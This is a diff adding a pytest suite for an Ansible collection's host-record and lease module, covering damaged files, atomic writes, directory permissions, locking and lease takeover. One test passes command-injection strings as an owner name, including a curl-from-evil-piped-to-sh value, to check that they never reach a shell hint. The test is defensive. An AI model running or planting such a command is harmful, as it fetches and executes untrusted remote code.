@@ -1,0 +1,319 @@
+# -*- coding: utf-8 -*-
+# Copyright (c) 2026, the pgfleet.cache authors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+
+import pytest
+from ansible_collections.pgfleet.cache.plugins.module_utils import _host_record
+from ansible_collections.pgfleet.cache.plugins.module_utils._errors import ResidencyError
+from ansible_collections.pgfleet.cache.plugins.module_utils._host_record import LARGEST, Records
+
+ALICE = {
+    "id": "a1", "owner": "alice", "controller": "ctl1", "pid": 4711, "since": "2026-11-21T06:00:00Z", "what": "rolling_restart", "silent": 600,
+    "data_directory": "/data",
+}
+BOB = dict(ALICE, id="b1", owner="bob", controller="ctl2")
+NOTHING = {"record": None, "lease": None, "fault": ""}
+
+
+@pytest.fixture
+def records(tmp_path):
+    return Records(str(tmp_path))
+
+
+def lease_of(records, name="db1"):
+    return records.read(name)["lease"]
+
+
+def change(tmp_path, name="db1", **changed):
+    """The lease as somebody could have left it."""
+    path = tmp_path / (name + ".lease")
+    path.write_text(json.dumps(dict(json.loads(path.read_text()), **changed)))
+
+
+# --- reading ---
+
+
+def test_nothing(records, tmp_path):
+    assert records.read("db1") == NOTHING == Records(str(tmp_path / "none")).read("db1")
+    assert records.leases() == [] == Records(str(tmp_path / "none")).leases()
+    assert os.listdir(str(tmp_path)) == [], "reading leaves nothing"
+
+
+@pytest.mark.parametrize("content", [b"", b"{", b"[1]", b"5", b"null", b"\xff\xfe", b"[" * 100000, b'{"roll": "9"} x'])
+@pytest.mark.parametrize(("ending", "other"), [(".json", "lease"), (".lease", "record")])
+def test_damaged(records, tmp_path, content, ending, other):
+    (tmp_path / ("db1.json" if other == "record" else "db1.lease")).write_text('{"id": "5"}')
+    (tmp_path / ("db1" + ending)).write_bytes(content)
+    found = records.read("db1")
+    assert found["fault"] == "%s is damaged" % (tmp_path / ("db1" + ending)) and found[other] == {"id": "5"}
+    assert [one["name"] for one in records.leases()] == (["db1"] if other == "lease" else [])
+
+
+def test_huge(records, tmp_path):
+    """No more is read than a record can have: what is beyond it is cut, and damaged thereby."""
+    (tmp_path / "db1.json").write_text(json.dumps({"roll": "9" * LARGEST}))
+    assert records.read("db1")["fault"].endswith("is damaged")
+    (tmp_path / "db2.json").write_text(json.dumps({"roll": "9" * (LARGEST // 2)}))
+    assert records.read("db2")["fault"] == ""
+
+
+def test_a_symbolic_link_is_not_followed(records, tmp_path):
+    (tmp_path / "other").write_text("{}")
+    (tmp_path / "db1.json").symlink_to(tmp_path / "other")
+    assert "db1.json cannot be read: Too many levels of symbolic links" in records.read("db1")["fault"]
+
+
+def test_a_fifo_does_not_hang(records, tmp_path):
+    os.mkfifo(str(tmp_path / "db1.json"))
+    os.mkfifo(str(tmp_path / "db1.lease"))
+    assert "is damaged" in records.read("db1")["fault"] and records.leases() == []
+
+
+def test_a_directory_where_a_file_should_be(records, tmp_path):
+    (tmp_path / "db1.json").mkdir()
+    found = records.read("db1")
+    assert found["record"] is None and found["fault"]
+
+
+# --- writing ---
+
+
+def test_written(records, tmp_path):
+    records.write("db1", {"state": "saved", "name": "\u00fc"})
+    before = os.stat(str(tmp_path / "db1.json"))
+    records.write("db1", {"state": "restarting"})
+    after = os.stat(str(tmp_path / "db1.json"))
+    assert records.read("db1") == dict(NOTHING, record={"state": "restarting"})
+    assert (tmp_path / "db1.json").read_text() == '{\n  "state": "restarting"\n}\n'
+    assert stat.S_IMODE(after.st_mode) == 0o644 and before.st_ino != after.st_ino, "another file in its place"
+    assert os.listdir(str(tmp_path)) == ["db1.json"]
+
+
+def test_whatever_the_mask_is_others_can_read_it(records, tmp_path):
+    mask = os.umask(0o077)
+    try:
+        records.write("db1", {})
+    finally:
+        os.umask(mask)
+    assert stat.S_IMODE(os.stat(str(tmp_path / "db1.json")).st_mode) == 0o644
+
+
+def test_what_an_earlier_write_has_left(records, tmp_path):
+    (tmp_path / "db1.json.new").write_text("x" * 1000)
+    records.write("db1", {})
+    assert os.listdir(str(tmp_path)) == ["db1.json"] and records.read("db1")["record"] == {}
+
+
+def test_a_write_that_fails_leaves_the_old_one(records, tmp_path, monkeypatch):
+    records.write("db1", {"state": "saved"})
+
+    def full(dummy):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(_host_record.os, "fsync", full)
+    with pytest.raises(ResidencyError, match=r"db1.json cannot be written: No space left on device. Nothing is changed until it can be."):
+        records.write("db1", {"state": "restarting"})
+    assert os.listdir(str(tmp_path)) == ["db1.json"] and records.read("db1")["record"] == {"state": "saved"}
+
+
+def test_a_link_is_not_written_through(records, tmp_path):
+    (tmp_path / "db1.json.new").symlink_to(tmp_path / "other")
+    with pytest.raises(ResidencyError, match="Too many levels of symbolic links"):
+        records.write("db1", {})
+    assert not (tmp_path / "other").exists()
+
+
+def test_a_directory_that_is_none(tmp_path):
+    (tmp_path / "file").write_text("")
+    for path in ("file", "file/below"):
+        records = Records(str(tmp_path / path))
+        with pytest.raises(ResidencyError, match="orrect pgfleet_state_directory"):
+            records.prepare()
+        with pytest.raises(ResidencyError, match=r"Not a directory. Correct pgfleet_state_directory"), records.locked():
+            pass
+        with pytest.raises(ResidencyError, match="cannot be written"):
+            records.write("db1", {})
+        assert "cannot be read: Not a directory" in records.read("db1")["fault"]
+
+
+@pytest.fixture
+def trusted(tmp_path, monkeypatch):
+    """The directory of the tests, as if nobody else could write above it: /tmp is not only ours."""
+    real = os.path.realpath
+    monkeypatch.setattr(_host_record.os.path, "dirname", lambda path: path if path == real(str(tmp_path)) else os.path.split(path)[0])
+    os.chmod(str(tmp_path), 0o755)
+    return tmp_path
+
+
+def test_prepared(trusted):
+    Records(str(trusted / "a" / "b")).prepare()
+    assert (trusted / "a" / "b").is_dir()
+    Records(str(trusted / "a" / "b")).prepare()
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o775, 0o757])
+def test_what_others_can_replace(trusted, mode):
+    (trusted / "a").mkdir()
+    os.chmod(str(trusted / "a"), mode)
+    for path in ("a", "a/b"):
+        with pytest.raises(ResidencyError, match=r"/a can be replaced by users other than root: choose another pgfleet_state_directory\."):
+            Records(str(trusted / path)).prepare()
+    os.chmod(str(trusted / "a"), 0o1777)  # as /tmp: others cannot replace what is ours
+    Records(str(trusted / "a" / "b")).prepare()
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="gives a directory to another user")
+def test_what_belongs_to_another(trusted):
+    (trusted / "a").mkdir()
+    os.chown(str(trusted / "a"), 65534, 65534)
+    with pytest.raises(ResidencyError, match="can be replaced by users other than root"):
+        Records(str(trusted / "a" / "b")).prepare()
+
+
+def test_it_is_where_a_link_leads_that_counts(trusted):
+    (trusted / "a").mkdir()
+    os.chmod(str(trusted / "a"), 0o777)
+    (trusted / "link").symlink_to(trusted / "a")
+    with pytest.raises(ResidencyError, match="/a can be replaced"):
+        Records(str(trusted / "link")).prepare()
+
+
+def test_a_full_file_system(trusted, monkeypatch):
+    real = os.statvfs(str(trusted))
+    full = os.statvfs_result([*real[:4], 1, *real[5:]])
+    monkeypatch.setattr(_host_record.os, "statvfs", lambda dummy: full)
+    with pytest.raises(ResidencyError, match=r"is full, so this run cannot be recorded on the host. Free some space."):
+        Records(str(trusted)).prepare()
+
+
+def test_one_at_a_time(records, tmp_path, monkeypatch):
+    """Held by an open file: gone with the process, and with the end of the block, whatever ends it."""
+    monkeypatch.setattr(_host_record, "LOCKED", 0.1)
+    with pytest.raises(KeyError), records.locked():
+        with pytest.raises(ResidencyError, match=r"/\.lock has been locked by another process"), records.locked():
+            pass
+        raise KeyError
+    with records.locked():
+        pass
+    # nobody else can open it, and so keep others waiting
+    assert (tmp_path / ".lock").stat().st_mode & 0o777 == 0o600
+
+
+# --- the lease ---
+
+
+@pytest.mark.parametrize("owner", ["alice;curl${IFS}evil|sh", "$(id)", "{{ lookup('pipe', 'id') }}", "a b", "", "x" * 100])
+def test_no_command_of_a_host_is_shown(owner):
+    """It is pasted into a shell of the controller."""
+    assert "pgfleet_take_over" not in _host_record.way_out({"owner": owner})
+    assert _host_record.way_out({"owner": "alice@example.org"}).endswith("-e pgfleet_take_over=alice@example.org.")
+
+
+def test_taken_and_given_back(records):
+    assert records.take("db1", ALICE) == {"held_by": None, "taken_over": None}
+    mine = lease_of(records)
+    assert {name: mine[name] for name in ALICE} == ALICE and set(mine) - set(ALICE) == {"boot", "uptime", "heartbeat"}
+    assert records.take("db1", ALICE) == {"held_by": None, "taken_over": None}, "it is ours already"
+    assert records.release("db1", "b1") is False and lease_of(records)["id"] == "a1"
+    assert records.release("db1", "a1") is True and lease_of(records) is None
+    assert records.release("db1", "a1") is False
+
+
+def test_held_by_another(records):
+    records.take("db1", ALICE)
+    found = records.take("db1", BOB)
+    assert found["held_by"]["id"] == "a1" and found["taken_over"] is None and lease_of(records)["id"] == "a1"
+    assert records.take("db2", dict(BOB, data_directory="/other"))["held_by"] is None, "another server of this host"
+
+
+def test_taken_over_by_its_id(records):
+    records.take("db1", ALICE)
+    assert records.take("db1", BOB, ["c1"])["held_by"]["id"] == "a1"
+    found = records.take("db1", BOB, ["c1", "a1"])
+    assert found["held_by"] is None and found["taken_over"]["owner"] == "alice" and lease_of(records)["id"] == "b1"
+
+
+def test_the_same_server_under_another_name(records, tmp_path):
+    records.take("db1.example.com", ALICE)
+    assert records.take("db1", BOB)["held_by"]["name"] == "db1.example.com"
+    assert records.take("db1", dict(BOB, data_directory=""))["held_by"] is None, "its server is down: nobody knows which it is"
+    records.release("db1", "b1")
+    assert records.take("db1", BOB, ["a1"])["taken_over"]["name"] == "db1.example.com"
+    assert sorted(os.listdir(str(tmp_path))) == ["db1.lease"]
+
+
+def test_two_who_are_taken_over(records, tmp_path):
+    records.take("db1", ALICE)
+    records._store("other.lease", dict(ALICE, id="c1", **_host_record.clock()))
+    assert records.take("db1", BOB, ["a1", "c1"])["held_by"] is None
+    assert [one["id"] for one in records.leases()] == ["b1"]
+
+
+def test_the_first_is_taken_over_and_the_second_is_not(records):
+    records._store("aaa.lease", dict(ALICE, **_host_record.clock()))
+    records._store("zzz.lease", dict(ALICE, id="c1", owner="carol", **_host_record.clock()))
+    assert records.take("db1", BOB, ["a1"])["held_by"]["id"] == "c1"
+    assert [one["id"] for one in records.leases()] == ["a1", "c1"], "nothing was changed"
+
+
+def test_silent_for_too_long(records, tmp_path):
+    records.take("db1", ALICE)
+    now = _host_record.clock()
+    change(tmp_path, uptime=now["uptime"] - 599, silent=600)
+    assert records.take("db1", BOB)["held_by"]["id"] == "a1"
+    change(tmp_path, uptime=now["uptime"] - 601)
+    assert records.take("db1", BOB)["taken_over"]["id"] == "a1"
+
+
+def test_after_a_reboot_the_time_since_the_boot_counts(records, tmp_path):
+    records.take("db1", ALICE)
+    uptime = _host_record.clock()["uptime"]
+    change(tmp_path, boot="another", uptime=1e9, silent=uptime + 100)
+    assert not _host_record.stale(lease_of(records))
+    change(tmp_path, silent=uptime / 2)
+    assert _host_record.stale(lease_of(records))
+
+
+@pytest.mark.parametrize("changed", [
+    {"silent": None}, {"silent": "never"}, {"silent": [1]}, {"uptime": "x", "silent": 0}, {"uptime": None}, {"silent": float("nan")}, {"silent": float("inf")},
+], ids=str)
+def test_what_says_nothing_sensible_is_somebodys(records, tmp_path, changed):
+    records.take("db1", ALICE)
+    change(tmp_path, **changed)
+    assert not _host_record.stale(lease_of(records)) and records.take("db1", BOB)["held_by"]
+    (tmp_path / "db1.lease").write_text(json.dumps({"id": "a1"}))
+    assert not _host_record.stale(lease_of(records))
+
+
+def test_renewed(records, tmp_path):
+    records.take("db1", ALICE)
+    change(tmp_path, uptime=1, boot="another", heartbeat="")
+    records.renew("db1", "a1", 1200)
+    mine = lease_of(records)
+    assert (mine["silent"], mine["owner"], mine["boot"]) == (1200, "alice", _host_record.clock()["boot"]) and mine["heartbeat"]
+    records.renew("db1", "a1")
+    assert lease_of(records)["silent"] == 1200
+
+
+def test_not_renewed_where_it_is_anothers(records, tmp_path):
+    records.take("db1", ALICE)
+    before = (tmp_path / "db1.lease").read_bytes()
+    with pytest.raises(ResidencyError, match=r"held by alice on ctl1 \(rolling_restart, process 4711, since 2026-11-21T06:00:00Z\): that run has to finish"):
+        records.renew("db1", "b1")
+    assert (tmp_path / "db1.lease").read_bytes() == before
+    records.release("db1", "a1")
+    with pytest.raises(ResidencyError, match=r"of this host was removed. Run the playbook again."):
+        records.renew("db1", "a1")
+    assert lease_of(records) is None
+
+
+@pytest.mark.parametrize("lease", [{}, {"owner": ["x"], "pid": {}}, {"owner": "a\x1b[2J" * 1000}])
+def test_an_owner_can_be_anything(lease):
+    assert len(_host_record.owner(lease)) < 600 and "\x1b" not in _host_record.owner(lease)
